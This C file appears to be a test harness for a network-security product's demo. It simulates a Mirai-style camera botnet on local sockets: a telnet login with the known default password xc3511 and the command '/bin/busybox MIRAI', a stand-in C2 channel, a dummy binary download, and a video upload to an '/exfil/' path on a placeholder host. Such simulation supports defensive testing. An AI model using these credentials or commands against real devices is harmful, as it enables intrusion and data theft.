/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The people of the demo, one program with a role each, on real sockets:
 *
 *   host httpd ADDR PORT                 answers GET and POST, says what it got
 *   host telnetd ADDR PORT               login with root / xc3511, then a prompt
 *   host c2 ADDR PORT                    a line-based command channel
 *   host webhook ADDR PORT SECRETFILE    checks the signature of each notification
 *   host sensor ADDR PORT                a report every 50 ms; totals at SIGTERM
 *   host telnet ADDR PORT                log in with the default password
 *   host get ADDR PORT PATH              fetch
 *   host join ADDR PORT                  join the command channel, stay
 *   host upload ADDR PORT BYTES          a paced POST; fails when it stalls
 *   host probe ADDR PORT MS              can a connection be made within MS?
 *
 * Exit status 0: it worked; 1: it did not; 2: usage. Each event is one line on stdout.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "base/cleanup.h"
#include "base/crypto.h"
#include "base/str.h"

#define HEAD_MAX 8192
#define STALL_MS 2000
#define BODY_BYTES (96 << 10)
#define RECORDED_BYTES (1 << 20)
#define KEYFRAME_AT 50000 /* in each 64 KiB of video; what the demo's rule looks for */

static volatile sig_atomic_t stopped;

static void on_term(int sig)
{
	(void)sig;
	stopped = 1;
}

static void __attribute__((format(printf, 1, 2))) say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
}

static struct sockaddr_in address(const char *addr, const char *port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)strtoul(port, NULL, 10))};

	if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1) {
		fprintf(stderr, "host: '%s' is no IPv4 address\n", addr);
		exit(2);
	}
	return sa;
}

/* 0 when @fd becomes ready for @events within @ms */
static int ready(int fd, short events, int ms)
{
	struct pollfd p = {.fd = fd, .events = events};

	return poll(&p, 1, ms) == 1 ? 0 : -ETIMEDOUT;
}

/* a connected socket or negative errno */
static int dial(const char *addr, const char *port, int ms)
{
	struct sockaddr_in sa = address(addr, port);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), err = 0;
	socklen_t len = sizeof(err);

	if (fd < 0)
		return -errno;
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) && errno != EINPROGRESS)
		err = errno;
	else if (ready(fd, POLLOUT, ms))
		err = ETIMEDOUT;
	else
		getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
	if (!err)
		return fd;
	close(fd);
	return -err;
}

static int put(int fd, const void *data, size_t len)
{
	const char *p = data;

	while (len) {
		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);

		if (n < 0 && errno == EAGAIN && !ready(fd, POLLOUT, STALL_MS))
			continue;
		if (n <= 0)
			return -1;
		p += n;
		len -= (size_t)n;
	}
	return 0;
}

static int puts_to(int fd, const char *s)
{
	return put(fd, s, strlen(s));
}

/* reads until @mark (or the peer closes) into @buf, terminated; bytes, or -1 on stall and close without it */
static ssize_t get_until(int fd, char *buf, size_t size, const char *mark)
{
	size_t have = 0;

	while (have + 1 < size) {
		ssize_t n;

		if (ready(fd, POLLIN, STALL_MS))
			return -1;
		n = recv(fd, buf + have, size - 1 - have, 0);
		if (n <= 0)
			return -1;
		have += (size_t)n;
		buf[have] = 0;
		if (memmem(buf, have, mark, strlen(mark)))
			return (ssize_t)have;
	}
	return -1;
}

static const char *header(const char *head, const char *name)
{
	const char *p = strcasestr(head, name);

	return p ? p + strlen(name) : NULL;
}

/* reads the rest of a body of which @have bytes are in @rest; what came */
static size_t read_body(int fd, size_t have, size_t want, char *keep, size_t keep_size)
{
	char buf[16384];

	while (have < want) {
		ssize_t n;

		if (ready(fd, POLLIN, STALL_MS))
			break;
		n = recv(fd, buf, sizeof(buf), 0);
		if (n <= 0)
			break;
		if (have < keep_size)
			memcpy(keep + have, buf, have + (size_t)n < keep_size ? (size_t)n : keep_size - have);
		have += (size_t)n;
	}
	return have;
}

static int serve_http(int fd, const char *unused)
{
	char head[HEAD_MAX], method[8] = "", path[256] = "", *end;
	ssize_t n = get_until(fd, head, sizeof(head), "\r\n\r\n");
	const char *length;

	(void)unused;
	if (n < 0 || sscanf(head, "%7s %255s", method, path) != 2)
		return 1;
	end = strstr(head, "\r\n\r\n") + 4;
	length = header(head, "content-length: ");
	if (length) {
		size_t want = strtoul(length, NULL, 10);
		size_t got = read_body(fd, (size_t)(head + n - end), want, NULL, 0);

		say("%s %s %zu of %zu bytes", method, path, got, want);
		return got == want && !puts_to(fd, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n") ? 0 : 1;
	}
	say("%s %s", method, path);
	if (!strncmp(path, "/bins/", 6)) {
		static char body[BODY_BYTES] = "\177ELF\1\1\1";
		char reply[128];

		snprintf(reply, sizeof(reply), "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n", BODY_BYTES);
		return puts_to(fd, reply) || put(fd, body, sizeof(body)) ? 1 : 0;
	}
	return puts_to(fd, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n") ? 1 : 0;
}

static int serve_telnet(int fd, const char *unused)
{
	char line[256];

	(void)unused;
	if (put(fd, "\xff\xfd\x18\xff\xfd\x20\xff\xfb\x01", 9) || puts_to(fd, "\r\ndvr login: "))
		return 1;
	if (get_until(fd, line, sizeof(line), "\n") < 0 || puts_to(fd, "Password: "))
		return 1;
	if (get_until(fd, line, sizeof(line), "\n") < 0)
		return 1;
	if (!strstr(line, "xc3511")) {
		say("login refused");
		return puts_to(fd, "Login incorrect\r\n") ? 1 : 0;
	}
	say("login with the default password");
	if (puts_to(fd, "\r\nBusyBox v1.12.4\r\n# "))
		return 1;
	return get_until(fd, line, sizeof(line), "\n") < 0;
}

static int serve_c2(int fd, const char *unused)
{
	char line[256];

	(void)unused;
	if (get_until(fd, line, sizeof(line), "\n") < 0)
		return 1;
	say("bot joined");
	if (puts_to(fd, "CMD upload\n"))
		return 1;
	while (!ready(fd, POLLIN, 60000) && recv(fd, line, sizeof(line), 0) > 0)
		;
	return 0;
}

static int serve_webhook(int fd, const char *secret_file)
{
	char head[HEAD_MAX], body[HEAD_MAX], signed_text[HEAD_MAX + 64], hex[65], stamp[32] = "";
	_cleanup_free_ char *secret = NULL;
	size_t secret_len, have, want;
	const char *sig, *p;
	char *end;
	ssize_t n = get_until(fd, head, sizeof(head), "\r\n\r\n");
	int len;

	if (n < 0 || file_read(secret_file, 4096, &secret, &secret_len))
		return 1;
	end = strstr(head, "\r\n\r\n") + 4;
	p = header(head, "content-length: ");
	want = p ? strtoul(p, NULL, 10) : 0;
	have = (size_t)(head + n - end);
	if (want >= sizeof(body) || have > want)
		return 1;
	memcpy(body, end, have);
	if (read_body(fd, have, want, body, sizeof(body)) != want)
		return 1;
	while (secret_len && strchr("\r\n", secret[secret_len - 1]))
		secret_len--;
	p = header(head, "x-cordon-timestamp: ");
	sig = header(head, "x-cordon-signature: sha256=");
	if (p)
		snprintf(stamp, sizeof(stamp), "%.*s", (int)strcspn(p, "\r\n"), p);
	len = snprintf(signed_text, sizeof(signed_text), "%s.%.*s", stamp, (int)want, body);
	if (!sig || hmac_sha256_hex(secret, secret_len, signed_text, (size_t)len, hex) || strncmp(sig, hex, 64)) {
		say("bad signature");
		return puts_to(fd, "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n"), 1;
	}
	say("signed %.*s", (int)want, body);
	return puts_to(fd, "HTTP/1.1 204 No Content\r\n\r\n") ? 1 : 0;
}

/* one child for each connection until SIGTERM */
static int serve(const char *addr, const char *port, int (*handler)(int, const char *), const char *arg)
{
	struct sockaddr_in sa = address(addr, port);
	int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) || listen(fd, 64)) {
		perror("host: listen");
		return 1;
	}
	signal(SIGCHLD, SIG_IGN);
	say("listening");
	while (!stopped) {
		int c = accept(fd, NULL, NULL);

		if (c < 0)
			continue;
		if (!fork()) {
			signal(SIGTERM, SIG_DFL);
			prctl(PR_SET_PDEATHSIG, SIGTERM);
			_exit(handler(c, arg));
		}
		close(c);
	}
	return 0;
}

static int report_once(const char *addr, const char *port)
{
	char reply[512];
	_cleanup_close_ int fd = dial(addr, port, STALL_MS);

	if (fd < 0 || puts_to(fd, "GET /report?t=21.5 HTTP/1.1\r\nHost: cloud\r\n\r\n"))
		return -1;
	return get_until(fd, reply, sizeof(reply), "ok\n") < 0 ? -1 : 0;
}

static int sensor(const char *addr, const char *port)
{
	struct itimerspec every = {{0, 50000000}, {0, 50000000}};
	_cleanup_close_ int timer = timerfd_create(CLOCK_MONOTONIC, 0);
	unsigned long sent = 0, answered = 0;
	uint64_t ticks;

	timerfd_settime(timer, 0, &every, NULL);
	while (!stopped && read(timer, &ticks, sizeof(ticks)) == sizeof(ticks)) {
		sent++;
		answered += !report_once(addr, port);
		say("%lu sent %lu answered", sent, answered);
	}
	return sent == answered ? 0 : 1;
}

static int telnet(const char *addr, const char *port)
{
	char text[1024];
	_cleanup_close_ int fd = dial(addr, port, STALL_MS);

	return fd < 0 || get_until(fd, text, sizeof(text), "login: ") < 0 || puts_to(fd, "root\r\n") ||
	       get_until(fd, text, sizeof(text), "Password: ") < 0 || puts_to(fd, "xc3511\r\n") ||
	       get_until(fd, text, sizeof(text), "# ") < 0 || puts_to(fd, "/bin/busybox MIRAI\r\n");
}

static int fetch(const char *addr, const char *port, const char *path)
{
	char request[512], reply[HEAD_MAX];
	_cleanup_close_ int fd = dial(addr, port, STALL_MS);
	const char *length;

	snprintf(request, sizeof(request), "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Wget\r\n\r\n", path, addr);
	if (fd < 0 || puts_to(fd, request))
		return 1;
	ssize_t n = get_until(fd, reply, sizeof(reply), "\r\n\r\n");

	if (n < 0 || !(length = header(reply, "content-length: ")))
		return 1;
	size_t want = strtoul(length, NULL, 10);
	size_t have = (size_t)(reply + n - (strstr(reply, "\r\n\r\n") + 4));

	return read_body(fd, have, want, NULL, 0) == want ? 0 : 1;
}

static int join(const char *addr, const char *port)
{
	char line[256];
	_cleanup_close_ int fd = dial(addr, port, STALL_MS);

	if (fd < 0 || puts_to(fd, "JOIN bot-7f3a camera\n") || get_until(fd, line, sizeof(line), "\n") < 0)
		return 1;
	say("commanded: %.*s", (int)strcspn(line, "\n"), line);
	while (!stopped)
		poll(NULL, 0, 60000);
	return 0;
}

/* a POST of @bytes: what is recorded already at once, then 64 KiB every 20 ms: long enough to be stopped in the middle */
static int upload(const char *addr, const char *port, size_t bytes)
{
	static char video[65536];
	struct itimerspec every = {{0, 20000000}, {0, 20000000}};
	_cleanup_close_ int fd = dial(addr, port, STALL_MS);
	_cleanup_close_ int timer = timerfd_create(CLOCK_MONOTONIC, 0);
	char head[256];
	uint64_t ticks;
	size_t sent = 0;

	snprintf(head, sizeof(head), "POST /exfil/cam1.h264 HTTP/1.1\r\nHost: drop\r\nContent-Length: %zu\r\n\r\n", bytes);
	timerfd_settime(timer, 0, &every, NULL);
	if (fd < 0 || puts_to(fd, head))
		return 1;
	memset(video, 0x65, sizeof(video));
	memcpy(video + KEYFRAME_AT, "KEYFRAME cam1", 13);
	while (sent < bytes) {
		size_t n = bytes - sent < sizeof(video) ? bytes - sent : sizeof(video);

		if (sent >= RECORDED_BYTES && read(timer, &ticks, sizeof(ticks)) != sizeof(ticks))
			break;
		if (put(fd, video, n)) {
			say("upload stalled after %zu of %zu bytes", sent, bytes);
			return 1;
		}
		sent += n;
	}
	return get_until(fd, head, sizeof(head), "\r\n\r\n") < 0;
}

static int probe(const char *addr, const char *port, int ms)
{
	_cleanup_close_ int fd = dial(addr, port, ms);

	return fd < 0;
}

int main(int argc, char **argv)
{
	struct sigaction term = {.sa_handler = on_term};
	const char *role = argc > 3 ? argv[1] : "";
	const char *extra = argc > 4 ? argv[4] : NULL;

	sigaction(SIGTERM, &term, NULL);
	if (!strcmp(role, "httpd"))
		return serve(argv[2], argv[3], serve_http, NULL);
	if (!strcmp(role, "telnetd"))
		return serve(argv[2], argv[3], serve_telnet, NULL);
	if (!strcmp(role, "c2"))
		return serve(argv[2], argv[3], serve_c2, NULL);
	if (!strcmp(role, "webhook") && extra)
		return serve(argv[2], argv[3], serve_webhook, extra);
	if (!strcmp(role, "sensor"))
		return sensor(argv[2], argv[3]);
	if (!strcmp(role, "telnet"))
		return telnet(argv[2], argv[3]);
	if (!strcmp(role, "get") && extra)
		return fetch(argv[2], argv[3], extra);
	if (!strcmp(role, "join"))
		return join(argv[2], argv[3]);
	if (!strcmp(role, "upload") && extra)
		return upload(argv[2], argv[3], strtoul(extra, NULL, 10));
	if (!strcmp(role, "probe") && extra)
		return probe(argv[2], argv[3], (int)strtol(extra, NULL, 10));
	fprintf(stderr, "usage: host ROLE ADDR PORT [ARG]; see the top of tests/demo/host.c\n");
	return 2;
}
